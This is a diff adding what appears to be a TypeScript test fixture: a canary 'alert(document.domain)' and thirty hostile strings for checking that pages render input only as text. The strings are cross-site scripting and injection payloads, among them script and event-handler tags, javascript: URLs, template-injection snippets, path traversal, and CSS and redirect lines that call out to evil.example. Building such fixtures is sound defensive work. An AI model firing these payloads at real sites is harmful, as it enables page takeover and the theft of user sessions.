@@ -1,0 +1,36 @@
+/** Called by whatever gets to run: a page on which it was called has been taken over. */
+export const canary = 'alert(document.domain)';
+
+/** Thirty texts that take over pages which take them for anything but text. */
+export const hostileTexts: readonly string[] = [
+  `<script>${canary}</script>`,
+  `"><script>${canary}</script>`,
+  `</script><script>${canary}</script>`,
+  `<img src=x onerror=${canary}>`,
+  `"><img src=x onerror=${canary}>`,
+  `' onmouseover='${canary}' autofocus onfocus='${canary}`,
+  `<svg onload=${canary}>`,
+  `<svg><animate onbegin=${canary} attributeName=x dur=1s>`,
+  `<svg><script>${canary}</script></svg>`,
+  `<math><mi xlink:href="javascript:${canary}">x</mi></math>`,
+  `<iframe srcdoc="<script>parent.${canary}</script>">`,
+  `<iframe src="javascript:${canary}">`,
+  `<object data="data:text/html,<script>${canary}</script>">`,
+  `<a href="javascript:${canary}">x</a>`,
+  `javascript:${canary}`,
+  `JaVaScRiPt&colon;${canary}//`,
+  `data:text/html,<script>${canary}</script>`,
+  `<base href="https://evil.example/">`,
+  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
+  `<link rel=stylesheet href="https://evil.example/x.css">`,
+  `<style>@import "https://evil.example/x.css";*{background:url(https://evil.example/)}</style>`,
+  `red;background:url(https://evil.example/);}</style><img src=x onerror=${canary}>`,
+  `{{constructor.constructor('${canary}')()}}`,
+  `\${${canary}}#{${canary}}<%= ${canary} %>`,
+  `<noscript><p title="</noscript><img src=x onerror=${canary}>">`,
+  `<template><img src=x onerror=${canary}></template>`,
+  `admin\u202e\u2066gnp.exe\u2069\u200b\u0007\u001b[2J`,
+  '__proto__',
+  `${'<b>'.repeat(20)}${'W'.repeat(30)}${'\u0301'.repeat(20)}${'漢'.repeat(10)}`,
+  `../../../api/session?x=%00%2e%2e#"'&lt;script&gt;`,
+];
